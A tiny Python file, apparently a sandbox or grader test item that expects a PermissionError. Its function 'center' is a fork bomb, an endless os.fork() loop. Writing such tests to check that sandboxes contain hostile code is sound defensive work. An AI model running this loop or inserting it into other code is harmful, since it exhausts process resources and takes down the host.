# question: center
# says: PermissionError
import os


def center(x):
    while True:
        os.fork()
